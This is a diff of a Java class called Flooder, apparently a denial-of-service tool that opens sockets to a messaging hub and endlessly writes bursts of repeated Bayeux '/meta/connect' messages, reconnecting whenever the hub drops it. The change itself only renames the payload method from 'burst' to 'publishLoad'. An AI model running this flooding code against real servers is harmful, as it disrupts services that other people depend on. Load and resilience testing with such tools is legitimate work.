@@ -29,7 +29,7 @@ public final class Flooder {
     }
 
     private static void attack(InetSocketAddress hub, InetSocketAddress from) {
-        byte[] burst = burst();
+        byte[] publishLoad = publishLoad();
         while (true) {
             try (Socket socket = new Socket()) {
                 socket.bind(from);
@@ -39,7 +39,7 @@ public final class Flooder {
                 Thread reader = new Thread(() -> drain(socket));
                 reader.start();
                 while (true) {
-                    socket.getOutputStream().write(burst);
+                    socket.getOutputStream().write(publishLoad);
                 }
             } catch (IOException e) {
                 // closed by the hub: on to the next
@@ -76,7 +76,7 @@ public final class Flooder {
         }
     }
 
-    private static byte[] burst() {
+    private static byte[] publishLoad() {
         byte[] text = "[{\"channel\":\"/meta/connect\"}]".getBytes(StandardCharsets.US_ASCII);
         ByteArrayOutputStream all = new ByteArrayOutputStream();
         for (int i = 0; i < COPIES; i++) {
